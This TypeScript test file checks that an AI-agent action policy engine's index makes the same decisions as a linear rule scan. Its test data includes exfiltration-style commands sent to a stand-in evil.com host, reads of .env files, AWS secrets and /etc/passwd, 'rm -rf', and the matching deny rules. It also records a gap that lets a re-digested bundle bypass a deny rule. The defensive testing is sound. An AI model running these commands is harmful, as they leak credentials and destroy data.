import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createEngine, loadBundle, loadPolicy, makeBundle, sha256Hex, type CompiledPolicy } from "../src/index.js";

// Attack round 3 on lazy compilation + the factor index: the engine's decision
// (index, lazy rules, templates, free-form paths, explain, bundles) against the
// same policy whose every bucket scans its members top to bottom. On validated
// policies no disagreement was found (the probes that held are kept below); the
// two findings are at the end: non-ASCII host fragments are now refused at
// validation, and the re-digested invalid regex is a known limit (it.fails).

async function load(yaml: string, extra: string): Promise<CompiledPolicy | undefined> {
  const r = await loadPolicy([{ name: "p.yaml", text: `defaultAction: allow\n${extra}rules:\n${yaml}\n` }]);
  return r.ok ? r.policy : undefined;
}

/** Every bucket of `p` answers by a top-to-bottom scan of its own members (the definition the index must equal). */
function linearize(p: CompiledPolicy): CompiledPolicy {
  const orig = p.bucket.bind(p);
  const cache = new Map<string, ReturnType<CompiledPolicy["bucket"]>>();
  return Object.assign(Object.create(p) as CompiledPolicy, {
    bucket(a: string) {
      let b = cache.get(a);
      if (!b) {
        const real = orig(a);
        const members = [...real.members];
        b = Object.assign(Object.create(real) as typeof real, {
          firstMatch: (s: Parameters<typeof real.firstMatch>[0], now: number) => members.find((i) => p.rules[i]!.matches(s, now)) ?? -1,
          candidates: () => members,
        });
        cache.set(a, b);
      }
      return b;
    },
  });
}

async function differ(
  yaml: string,
  reqs: readonly unknown[],
  extra = "",
  mode: { bundle?: boolean; explain?: boolean; sabotage?: (p: CompiledPolicy) => CompiledPolicy } = {},
): Promise<string[] | undefined> {
  let p = await load(yaml, extra);
  const q = await load(yaml, extra);
  if (!p || !q) return undefined;
  if (mode.bundle) p = (await loadBundle(JSON.parse(JSON.stringify(await makeBundle(p.ir, "2026-01-01T00:00:00Z"))))).policy;
  if (p && mode.sabotage) p = mode.sabotage(p);
  const eng = createEngine(p);
  const ref = createEngine(linearize(q));
  const bad: string[] = [];
  for (const r of reqs) {
    const x = eng.check(r, { explain: mode.explain === true });
    const y = ref.check(r, { explain: mode.explain === true });
    if (x.decision !== y.decision || x.rule !== y.rule) bad.push(`${JSON.stringify(r)}: ${x.decision}/${x.rule} vs scan ${y.decision}/${y.rule}`);
  }
  return bad;
}

const HOSTS = [
  "example.com",
  "a.example.com",
  "api",
  "api.x",
  "EXAMPLE.com",
  "example.com.",
  "10.0.0.1",
  "0x0a000001",
  "[::1]",
  "bücher.example",
  "badexample.com",
];
const HOST_TESTS = [
  "'*.example.com'",
  "'**.example.com'",
  "'.example.com'",
  "'*example.com'",
  "'api.*'",
  "'example.*'",
  "'10.*'",
  "{endsWith: .example.com}",
  "{contains: example}",
  "{eq: EXAMPLE.COM}",
  "{in: [EXAMPLE.com, x.y]}",
  "'bücher.example'",
  "{matches: 'example\\.com$'}",
  "'[::1]'",
];

describe("attack 3: lazy compile + factor index against a top-to-bottom scan", () => {
  it("the harness sees an index that loses a rule (so the agreements below can fail)", async () => {
    // An index whose buckets never find factor-filed rules: the deny filed under `secret` is lost.
    const lose = (p: CompiledPolicy): CompiledPolicy =>
      Object.assign(Object.create(p) as CompiledPolicy, {
        bucket(a: string) {
          const real = p.bucket(a);
          return Object.assign(Object.create(real) as typeof real, { firstMatch: () => -1 });
        },
      });
    const y = "- {id: d, action: shell.execute, command: {contains: secret}, effect: deny}";
    const bad = await differ(y, [{ action: "shell.execute", command: "echo secret", cwd: "/tmp" }], "", { sabotage: lose });
    expect(bad).toHaveLength(1);
  });

  it("host keys and factors (suffix, label, IDN, IPv4 spellings, trailing dot, aliases) agree with the scan", async () => {
    for (const alias of ["host", "domain", "destination"])
      for (const t of HOST_TESTS) {
        const y = `- {id: d, action: network.request, ${alias}: ${t}, effect: deny}\n- {id: a, action: network.request, effect: allow}`;
        const bad = await differ(
          y,
          HOSTS.map((h) => ({ action: "network.request", url: `https://${h}/x` })),
        );
        expect(bad, `${alias}: ${t}`).toEqual([]);
      }
  });

  const FREE = [
    "'/etc/*'",
    "'**/passwd'",
    "'*passwd*'",
    "{eq: /etc/passwd}",
    "{eq: '42'}",
    "{eq: 42}",
    "{in: [/etc/passwd, passwd]}",
    "{in: [42, '42']}",
    "{startsWith: /etc}",
    "{contains: passwd}",
    "{contains: PASSWD}",
    "{matches: 'pass'}",
    "{matches: '^4'}",
    "{any: [{contains: pass}, '**/shadow']}",
    "{all: [{contains: pass}, {startsWith: /}]}",
    "{in: [passwd, '/ETC/passwd']}",
    "'/ETC/{passwd,shadow}'",
    "{endsWith: /passwd}",
    "{not: {contains: x}}",
  ];
  const VALUES: unknown[] = [
    "/etc/passwd",
    "/etc//passwd",
    "/srv/../etc/passwd",
    "passwd",
    "/etc/shadow",
    42,
    "42",
    true,
    ["/etc/passwd", "/x"],
    "\\etc\\passwd",
    "/etc/%70asswd",
    "etc/passwd",
    "/ETC/PASSWD",
    "/Etc/Passwd",
    null,
    { a: 1 },
  ];
  it("free-form fields with path-shaped, numeric and mixed operands, case-insensitive or not, YAML or bundle, explain or not", async () => {
    let ran = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.constantFrom("context.file", "arguments.path"), fc.constantFrom(...FREE), fc.constantFrom("deny", "allow")), {
          minLength: 1,
          maxLength: 5,
        }),
        fc.array(fc.tuple(fc.constantFrom(...VALUES), fc.constantFrom(...VALUES)), { minLength: 4, maxLength: 8 }),
        fc.boolean(),
        fc.boolean(),
        fc.boolean(),
        async (rules, vals, ci, bundle, explain) => {
          const y = rules.map(([f, t, e], i) => `- {id: r${i}, action: mcp.call, ${f}: ${t}, effect: ${e}}`).join("\n");
          const reqs = vals.map(([a, c]) => ({ action: "mcp.call", server: "s", tool: "t", arguments: { path: a }, context: { file: c } }));
          const bad = await differ(y, reqs, ci ? "paths: {caseInsensitive: true}\n" : "", { bundle, explain });
          if (bad === undefined) return;
          ran++;
          expect(bad, y).toEqual([]);
        },
      ),
      { numRuns: 150 },
    );
    expect(ran).toBeGreaterThan(100);
  });

  const CONDS: Record<string, string[]> = {
    "shell.execute": [
      "command: 'rm *'",
      "command: '*--force*'",
      "command: {contains: rm}",
      "command: {matches: 'rm\\s+-rf'}",
      "command: {startsWith: 'git push'}",
      "command: 'curl *'",
    ],
    "file.read": ["path: '/etc/**'", "path: '**/.env'", "path: {eq: /etc/passwd}", "path: {contains: secret}", "path: '/ETC/**'", "path: {matches: 'SECRET'}"],
    "env.read": ["key: AWS_*", "key: {eq: HOME}", "key: {contains: SECRET}", "key: {matches: 'TOKEN$'}"],
    "network.request": [
      "url: 'https://evil.com/*'",
      "url: {contains: evil}",
      "host: '*.evil.com'",
      "domain: {endsWith: evil.com}",
      "destination: EVIL.com",
      "method: post",
      "method: {in: [post, PUT]}",
      "scheme: HTTP",
      "port: 8080",
      "port: {in: [80, '443']}",
      "port: {eq: '8080'}",
      "port: {matches: '^80'}",
    ],
  };
  const AGENT = ["agent: bot", "agent: {contains: bo}", "agent: {in: [bot, 42]}"];
  const REQS = [
    { action: "shell.execute", command: "rm -rf /tmp/x", cwd: "/tmp" },
    { action: "shell.execute", command: "rm $X", cwd: "/tmp" },
    { action: "shell.execute", command: "$CMD --force", cwd: "/tmp" },
    { action: "shell.execute", command: "cat $HOME/.env", cwd: "/tmp" },
    { action: "shell.execute", command: "cat /etc/$F", cwd: "/tmp" },
    { action: "shell.execute", command: "curl https://$H.evil.com/x", cwd: "/tmp" },
    { action: "shell.execute", command: "curl https://evil.com/$P", cwd: "/tmp" },
    { action: "shell.execute", command: "echo $AWS_SECRET_KEY", cwd: "/tmp" },
    { action: "shell.execute", command: "ls; curl -X POST http://evil.com:8080/", cwd: "/tmp" },
    { action: "file.read", path: "/etc/passwd", agent: "bot" },
    { action: "file.read", path: "/home/u/Secret/.env" },
    { action: "env.read", key: "AWS_SECRET", agent: "robot" },
    { action: "network.request", url: "HTTP://EVIL.com:8080/a", method: "post", agent: "bot" },
    { action: "network.request", host: "a.evil.com", port: 443 },
    { action: "network.request", url: "https://x.evil.com/", method: "PUT" },
  ];
  it("rule-level any/not, aliases, methods/schemes/ports, agent, templated first decisions, bundles, explain", async () => {
    const acts = Object.keys(CONDS);
    const cond = fc
      .constantFrom(...acts)
      .chain((a) => fc.tuple(fc.constant(a), fc.constantFrom(...CONDS[a]!, ...AGENT), fc.constantFrom(...CONDS[a]!, ...AGENT), fc.nat(3)));
    let ran = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(cond, fc.constantFrom("deny", "allow", "require_approval")), { minLength: 1, maxLength: 8 }),
        fc.boolean(),
        fc.boolean(),
        fc.boolean(),
        async (rules, ci, bundle, explain) => {
          const y = rules
            .map(([[a, c1, c2, shape], e], i) => {
              const w =
                shape === 0
                  ? `when: {any: [{${c1}}, {${c2}}]}`
                  : shape === 1
                    ? `when: {not: {${c1}}}`
                    : shape === 2 && c1.split(":")[0] !== c2.split(":")[0]
                      ? `${c1}, ${c2}`
                      : c1;
              return `- {id: r${i}, action: ${a}, ${w}, effect: ${e}}`;
            })
            .join("\n");
          const bad = await differ(y, REQS, ci ? "paths: {caseInsensitive: true}\n" : "", { bundle, explain });
          if (bad === undefined) return;
          ran++;
          expect(bad, y).toEqual([]);
        },
      ),
      { numRuns: 150 },
    );
    expect(ran).toBeGreaterThan(100);
  });

  it("custom actions under exact, `x.*` and `*` patterns (shared buckets) agree with the scan", async () => {
    const y = [
      "- {id: r1, action: deploy.run, context.env: {contains: prod}, effect: deny}",
      "- {id: r2, action: 'deploy.*', context.env: prod, effect: require_approval}",
      "- {id: r3, action: '*', context.env: {matches: 'pro'}, effect: deny}",
      "- {id: r4, action: '*', context.env: {contains: stag}, effect: allow}",
      "- {id: r5, action: 'deploy.*', effect: allow}",
    ].join("\n");
    const reqs = ["deploy.run", "deploy.x", "deploy", "deploy.run.x", "Deploy.Run", "x.deploy", "mcp.call", "file.read"].flatMap((action) =>
      ["prod", "staging", "x-prod-y", 5, "PROD"].map((env) => ({ action, context: { env } })),
    );
    for (const bundle of [false, true]) expect(await differ(y, reqs, "", { bundle })).toEqual([]);
  });

  // FINDING 1. A rule whose condition cannot compile is documented (commit c437969, compile-test.ts
  // Lazy, test/path-glob.test.ts) as "filed nowhere: denied where reached", i.e. on every request of
  // its actions, as the scan does (the rule's test throws). A `matches` regex RE2 refuses is not:
  // condition-factors.ts reads its literal off the IR without compiling it, so the rule is filed
  // under `secret` and a request lacking that text skips it: the later allow decides.
  // Needs a bundle edited by hand and re-digested (validation refuses such a regex).
  // Kept as a known limit (README, "Rules compile on first use"): checking every regex with RE2 when the index
  // is built would compile them all at the first decision, and whoever can re-digest a bundle can rewrite any rule.
  it.fails("an RE2-invalid regex in a re-digested bundle denies every request of its action, as the scan does", async () => {
    const r = await loadPolicy([
      {
        name: "p.yaml",
        text: "defaultAction: allow\nrules:\n- {id: d, action: env.read, key: {matches: 'SECRET_x'}, effect: deny}\n- {id: a, action: env.read, effect: allow}\n",
      },
    ]);
    if (!r.ok) throw new Error(r.errors[0]!.message);
    const b = await makeBundle(r.policy.ir, "2026-01-01T00:00:00Z");
    b.policy = b.policy.replace("SECRET_x", "SECRET(?=_x)"); // lookahead: RE2 refuses it
    b.digest = "sha256:" + (await sha256Hex(b.policy));
    const e = createEngine((await loadBundle(JSON.parse(JSON.stringify(b)))).policy);
    // reaches the rule: denied (internal_error), as documented
    expect(e.check({ action: "env.read", key: "MY_SECRET_x" })).toMatchObject({ decision: "deny", error: "internal_error" });
    // the scan reaches the rule here too and denies; the index skips it and the later allow decides
    expect(e.check({ action: "env.read", key: "HOME" })).toMatchObject({ decision: "deny", error: "internal_error" });
  });

  // FINDING 2 (not the index: the scan agrees). Request hosts are punycode, but `startsWith` /
  // `endsWith` / `contains` on `host` only lower-case their operand (operands.ts caseFold), so a
  // non-ASCII operand can never match, and validation does not refuse it; README says "a condition
  // that no normalized request can meet is refused at validation, because a deny that never
  // matches is an allow". `host: '*.bücher.example'` (a glob) and `eq` are punycoded and work.
  it.each([
    ["{endsWith: .bücher.example}", "https://a.bücher.example/"],
    ["{contains: bücher}", "https://bücher.example/"],
    ["{startsWith: bücher}", "https://bücher.example/x"],
  ])("host %s is refused at load or denies %s", async (test, url) => {
    const r = await loadPolicy([{ name: "p.yaml", text: `defaultAction: allow\nrules:\n- {id: d, action: network.request, host: ${test}, effect: deny}\n` }]);
    if (!r.ok) return; // refused: what README promises
    expect(createEngine(r.policy).check({ action: "network.request", url })).toMatchObject({ decision: "deny", rule: "d" });
  });
  it("host glob and eq with the same IDN do deny (the contrast for finding 2)", async () => {
    const r = await loadPolicy([
      {
        name: "p.yaml",
        text: "defaultAction: allow\nrules:\n- {id: g, action: network.request, host: '*.bücher.example', effect: deny}\n- {id: q, action: network.request, host: {eq: bücher.example}, effect: deny}\n",
      },
    ]);
    if (!r.ok) throw new Error(r.errors[0]!.message);
    const e = createEngine(r.policy);
    expect(e.check({ action: "network.request", url: "https://a.bücher.example/" })).toMatchObject({ decision: "deny", rule: "g" });
    expect(e.check({ action: "network.request", url: "https://bücher.example/" })).toMatchObject({ decision: "deny", rule: "q" });
  });
});
